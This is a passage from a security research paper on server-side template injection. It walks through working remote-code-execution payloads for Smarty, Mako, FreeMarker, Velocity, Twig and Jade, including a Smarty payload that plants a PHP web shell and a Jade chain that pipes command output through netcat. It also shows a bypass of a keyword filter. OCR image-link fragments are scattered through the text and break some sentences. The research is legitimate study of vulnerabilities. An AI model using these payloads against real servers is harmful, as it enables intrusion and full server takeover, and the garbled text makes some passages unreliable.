  • 'Security Considerations' - chances are whoever developed the app you're testing didn't read this, and it may contain some useful hints.
  • Lists of builtin methods, functions, filters, and variables.
  • Lists of extensions/plugins - some may be enabled by default.


Assuming no exploits have presented themselves, the next step is to explore the environment to find out exactly what you have access to. You can expect to find both default objects provided by the template engine, and application-specific objects passed in to the template by the developer. Many template systems expose a 'self' or namespace object containing everything in scope, and an idiomatic way to list an object's attributes and methods.If there's no builtin self objectyou're going to have to bruteforce variable names. I have created a wordlist for this by crawling GitHub for GET/POST variable names used in PHP projects, and publicly released it via SecLists and Burp Intruder's wordlist collection.

Developer-supplied objects are particularly likely to contain sensitive information, and may vary between different templates within an application, so this process should ideally be applied to every distinct template individually.


At this point you should have a firm idea of the attack surface available to you and be able to proceed with traditional security audit techniques, reviewing each function for exploitable vulnerabilities. It's important to approach this in the context of the wider application - some functions can be used to exploit application-specific features. The examples to follow will use template injection to trigger arbitrary object creation, arbitrary file read/write, remote file include, information disclosure and privilege escalation vulnerabilities.

Exploit Development

I have audited a range of popular template engines to show the exploit methodology in practice, and make acase for the severity of the issue. The findings may appear to show flaws in template engines themselves, but unless an engine markets itself as suitable for user-submitted templates the responsibility for preventing template injection ultimately lies with web application developers.

Sometimes, thirty seconds of documentation perusal is sufficient to gain RCE. For example, exploiting unsandboxed Smarty is as easy as:
{php}echo `id`;{/php}
Mako is similarly easy to exploit:
import os
However, many template engines try to prevent application logic from creeping into templates by restricting their ability to execute arbitrary code. Others explicitly try to restrict and sandbox templates as a security measure to enable safe processing of untrusted input. Between these measures, developing a template backdoor can prove quite a challenging process.


FreeMarker is one of the most popular Java template languages, and the language I've seen exposed to users most frequently. This makesit surprising that the official website explains the dangers of allowing user-supplied templates:
22. Can I allow users to upload templates and what are the security implications?

In general you shouldn't allow that, unless those users are system administrators or other trusted personnel. Consider templates as part of the source code just like *.java files are. If you still want to allow users to upload templates, here are what to consider:
Buried behind some lesser risks like Denial of Service, we find this:
  • The new built-in (Configuration.setNewBuiltinClassResolver, Environment.setNewBuiltinClassResolver): It's used in templates like "com.example.SomeClass"?new(), and is important for FTL libraries that are partially implemented in Java, but shouldn't be needed in normal templates. While new will not instantiate classes that are not TemplateModel-s, FreeMarker contains a TemplateModel class that can be used to create arbitrary Java objects. Other "dangerous" TemplateModel-s can exist in you class-path. Plus, even if a class doesn't implement TemplateModel, its static initialization will be run. To avoid these, you should use a TemplateClassResolver that restricts the accessible classes (possibly based on which template asks for them), such as TemplateClassResolver.ALLOWS_NOTHING_RESOLVER.
This warning is slightly cryptic, but it does suggest that the new builtin may offer a promising avenue of exploitation. Let's have a look at the documentation on new:
This built-in can be a security concern because the template author can create arbitrary Java objects and then use them, as far as they implement TemplateModel. Also the template author can trigger static initialization for classes that don't even implement TemplateModel.[snip] If you are allowing not-so-much-trusted users to upload templates then you should definitely look into this topic.
Are there any useful classes implementing TemplateModel? Let's take a look at the JavaDoc:
One of these class names stands out - Execute.
The details confirm it does what you might expect - takes input and executes it:
public class Execute
implements TemplateMethodModel

Given FreeMarker the ability to execute external commands. Will fork a process, and inline anything that process sends to stdout in the template.
Using it is as easy as:
<#assign ex="freemarker.template.utility.Execute"?new()> ${ ex("id") }uid=119(tomcat7) gid=127(tomcat7) groups=127(tomcat7)
This payload will come in useful later.


Velocity, another popular Java templating language, is trickier to exploit. There is no 'Security Considerations' page to helpfully point out the most dangerous functions, and also no obvious list of default variables. The following screenshot shows the Burp Intruder tool being used to bruteforce variable names, with the variable name on the left in the 'payload' column and the server's output on the right.
The class variable (highlighted) looks particularly promising because it returns a generic Object. Googling it leads us to
ClassTool: tool meant to use Java reflection in templates
default key: $classOne method and one property stand out:
$class.inspect(class/object/string)returns a new ClassTool instance that inspects the specified class or object
$class.typereturns the actual Class being inspected
In other words, we can chain $class.inspect with $class.type to obtain references to arbitrary objects. We can then execute arbitrary shell commands on the target system using Runtime.exec(). This can be confirmed using the following template, designed to cause a noticeable time delay.
$class.inspect("java.lang.Runtime").type.getRuntime().exec("sleep 5").waitFor()
[5 second time delay]
Getting the shell command's output is a bit trickier(this is Java after all):
#foreach($i in [1..$out.available()])



Smarty is one of the most popular PHP templatelanguages, and offers a secure mode for untrusted template execution. This enforces a whitelist of safe PHP functions, so templates can't directly invoke system(). However, it doesn't prevent us from invoking methods on any classes we can obtain a reference to. The documentation reveals that the $smarty builtin variable can be used to access various environment variables, including the location of the current file at $SCRIPT_NAME. Variable name bruteforcing quickly reveals the self object, which is a reference to the current template. There is very little documentation on this, but the code is all on GitHub. The getStreamVariable method is invaluable:
The getStreamVariable method can be used to read any file the server has read+write permission on:



Furthermore, we can call arbitrary static methods. Smarty exposes a range of invaluable static classes, including Smarty_Internal_Write_File, which has the following method:
public function writeFile($_filepath,$_contents, Smarty $smarty)
This function is designed to create and overwrite arbitrary files, so it can easily be used to create a PHP backdoor inside the webroot, granting us near-complete control over the server. There's one catch - the third argument has a Smarty type hint, so it will reject any non-Smarty type inputs. This means that we need to obtain a reference to a Smarty object.
Further code review reveals that the self::clearConfig() method is suitable:
* Deassigns asingle or all config variables
* @param  string $varname variable name or null
* @return Smarty_Internal_Data current Smarty_Internal_Data (or Smarty or Smarty_Internal_Template) instance for chaining
public function clearConfig($varname = null)
    return Smarty_Internal_Extension_Config::clearConfig($this, $varname);
The final exploit, designed to overwrite the vulnerable file with a backdoor, looks like:
{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,"<?phppassthru($_GET['cmd']); ?>",self::clearConfig())}


Twig is another popular PHP templating language. It has restrictions similar to Smarty's secure mode by default, with a couple of significant additional limitations - it isn't possible to call static methods, and the return values from all functions are cast to strings. This means we can't use functions to obtain object references like we did with Smarty's self::clearConfig(). Unlike Smarty, Twig has documented its self object (_self) so we don't need to bruteforce any variable names.

The _self object doesn't contain any useful methods, but does have an env attribute that refers to a Twig_Environment object, which looks more promising. The setCache method onTwig_Environment can be used to change the location Twig tries to load and execute compiled templates (PHP files) from. An obvious attack is therefore to introduce a Remote File Include vulnerability by setting the cache location to a remote server:
However, modern versions of PHP disable inclusion of remote files by default via allow_url_include, so this approach isn't much use.

Further code review reveals a call to the dangerous call_user_func function on line 874, in the getFilter method. Provided we control thearguments to this, it can be used to invoke arbitrary PHP functions.
public function getFilter($name)
        foreach ($this->filterCallbacks as $callback) {
        if (false !== $filter = call_user_func($callback, $name)) {
            return $filter;
    return false;

public function registerUndefinedFilterCallback($callable)
    $this->filterCallbacks[] = $callable;
Executing arbitrary shell commands is thus just a matter of registering exec as a filter callback, then invoking getFilter:

uid=1000(k) gid=1000(k) groups=1000(k),10(wheel)Twig (Sandboxed)

Twig's sandbox introduces additional restrictions. It disables attribute retrieval and adds a whitelist of functions and method calls, so by default we outright can't call any functions, even methods on a developer-supplied object. Taken at face value, this makes exploitation pretty much impossible. Unfortunately, the source tells a different story:
public function checkMethodAllowed($obj, $method)
  if ($obj instanceof Twig_TemplateInterface || $obj instanceof Twig_Markup) {
        return true;
Thanks to this snippet we can call any method on objects that implement Twig_TemplateInterface, which happens to include _self. The _self object's displayBlock method offers a high-level gadget of sorts:
public function displayBlock($name, array $context, array $blocks = array(), $useBlocks = true)
    $name = (string) $name;
    if ($useBlocks && isset($blocks[$name])) {
        $template = $blocks[$name][0];
        $block = $blocks[$name][1];
    } elseif (isset($this->blocks[$name])) {
        $template = $this->blocks[$name][0];
        $block = $this->blocks[$name][1];
    } else {
        $template = null;$block = null;
    if (null !== $template) {
        try {
            $template->$block($context, $blocks);
        } catch (Twig_Error $e) {
The $template->$block($context, $blocks); call can be abused to bypass the function whitelist and call any method on any object the user can obtain a reference to. The following code will invoke the vulnerableMethod method on the userObject object, with no arguments.

This can't be used to exploit the Twig_Environment->getFilter() method used earlier as there is no way to obtain a reference to the Environment object. However, it does mean that we can invoke methods on any objects the developer has passed into the template - the _context object's attributes can be iterated over to see if anything useful is in scope. The XWiki example later illustrates exploiting a developer-provided class.


Jade is a popular Node.js template engine. The website lets users submit templates in a number of languages by design, and issuitable for showing a purely blackbox exploitation process. For a visual depiction of the following steps, please refer to the presentation video (link pending).

First off, confirm template execution:
= 7*7


Locate the self object:
= root

[object global]

Find a way to list object properties and functions:
- var x = root
- for(var prop in x)
    , #{prop}

, ArrayBuffer, Int8Array, Uint8Array, Uint8ClampedArray... global, process, GLOBAL, root

Explore promising objects:
- var x = root.process
- for(var prop in x)
    , #{prop}

, title, version, moduleLoadList... mainModule, setMaxListeners, emit, onceBypass trivial countermeasures:
- var x = root.process.mainModule
- for(var prop in x)
    , #{prop}

CodePen removed the words below from your Jade because they could be used to do bad things. Please remove them and try again.
- var x = root.process
- x = x.mainModule
- for(var prop in x)
    , #{prop}

, id, exports, parent, filename, loaded, children, paths, load, require, _compile

Locate useful functions:
- var x = root.process
- x = x.mainModule.require- x('a')

Cannot find module 'a'

- var x = root.process
- x = x.mainModule.require
- x = x('child_process')
= x.exec('id | nc 80')

Case Study: Alfresco

